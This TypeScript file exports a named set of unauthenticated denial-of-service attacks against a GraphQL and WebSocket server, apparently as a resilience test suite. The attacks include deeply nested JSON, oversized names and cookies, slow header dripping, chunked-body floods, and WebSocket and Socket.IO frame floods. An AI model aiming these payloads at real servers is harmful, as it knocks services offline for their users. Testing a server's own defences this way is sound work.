import {
  clientFrame,
  denseRequest,
  drip,
  flood,
  floodBytes,
  graphql,
  hold,
  host,
  loop,
  openFlooded,
  openLegacy,
  openPolling,
  openUnread,
  openWebSocket,
  post,
  range,
  text,
} from './attack-tools.ts';
import type { Attacks } from './attack-tools.ts';

/** Attacks without an account by how requests and frames are encoded, by name. */
export const ENCODING_ATTACKS: Attacks = {
  'dense-bodies': () => loop(200, () => post(denseRequest('{ __typename }', 19_000))),
  'dense-frames': () =>
    hold(40, async () => {
      const socket = await openWebSocket();
      const payload = denseRequest('{ __typename }', 19_000);
      flood(socket, (index) => `{"id":"${index}","type":"subscribe","payload":${payload}}`);
      return socket;
    }),
  'dense-events': () =>
    hold(40, async () => {
      const socket = await openLegacy();
      flood(socket, () => `42["message",{"a":[${'{},'.repeat(19_000)}{}]}]`);
      return socket;
    }),
  'deep-json': () =>
    loop(60, () =>
      post(`{"query":"{ __typename }","variables":{"a":${'['.repeat(400_000)}${']'.repeat(400_000)}}}`),
    ),
  'long-names': () =>
    loop(60, (index, round) =>
      post(
        graphql(
          `query ${text(400_000)} { ${range(100)
            .map((at) => `a${at}: node(id: $a${at}) { id }`)
            .join(' ')} }`,
        ),
        {},
        '/graphql',
        `127.1.${round % 250}.${index + 1}`,
      ),
    ),
  'large-heads': () => loop(100, () => post(graphql('{ __typename }'), { cookie: text(15_000) })),
  'slow-heads': () =>
    hold(3_000, async () =>
      drip(await openUnread(`GET /graphql HTTP/1.1\r\nHost: ${host}\r\n`), 'X-A: 1\r\n'),
    ),
  'small-chunks': () =>
    hold(20, async (index) => {
      const path = index % 2 === 0 ? '/graphql' : '/nowhere';
      const socket = await openUnread(
        `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
      );
      floodBytes(socket, '1\r\n \r\n'.repeat(2_000));
      return socket;
    }),
  'websocket-pings': () => hold(20, () => openFlooded(clientFrame(0x89, text(100)).repeat(500))),
  'websocket-small-frames': () =>
    hold(20, () =>
      openFlooded(
        clientFrame(0x01, '') + clientFrame(0x00, '').repeat(1_000) + clientFrame(0x80, '{"type":"pong"}'),
      ),
    ),
  'legacy-namespaces': () =>
    hold(20, async () => {
      const socket = await openLegacy();
      flood(socket, (index) => `40/n${index},`);
      return socket;
    }),
  'polling-events': () =>
    loop(60, async () => {
      const path = await openPolling();
      const headers = { 'content-type': 'text/plain' };
      await post('40', headers, path);
      for (const _ of range(20))
        await post(Array(9_000).fill('42["webrtc_stun_info"]').join('\u001e'), headers, path);
    }),
};
